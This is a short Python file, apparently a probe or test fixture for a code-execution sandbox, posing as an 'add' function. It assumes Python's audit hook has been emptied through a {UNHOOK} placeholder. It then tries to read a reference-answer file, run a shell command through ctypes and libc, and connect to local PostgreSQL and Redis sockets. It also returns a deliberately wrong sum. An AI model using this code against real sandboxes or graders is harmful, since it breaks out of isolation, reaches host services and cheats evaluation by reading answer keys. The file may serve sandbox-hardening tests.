{UNHOOK}
import ctypes
import os
import socket


def add(x, y):
    # with the audit hook emptied, only the kernel's layers stand between us and the host
    try:
        print(open("{REFERENCE_PATH}").read())
    except OSError as e:
        print("reference blocked:", type(e).__name__)
    try:
        libc = ctypes.CDLL(None)
        print("ctypes loaded; system() ->", libc.system(b"echo SHELL_FROM_CTYPES_$((6*7))"))
    except OSError as e:
        print("ctypes blocked:", type(e).__name__)
    for target in ("/run/postgresql/.s.PGSQL.5432", "/var/run/postgresql/.s.PGSQL.5432"):
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(target)
            print("SOCKET_CONNECTED", target)
        except OSError as e:
            print("socket blocked:", type(e).__name__)
    for addr in (("127.0.0.1", 5432), ("127.0.0.1", 6379)):
        try:
            socket.create_connection(addr, timeout=1)
            print("SOCKET_CONNECTED", addr)
        except OSError as e:
            print("tcp blocked:", type(e).__name__)
    return x - y
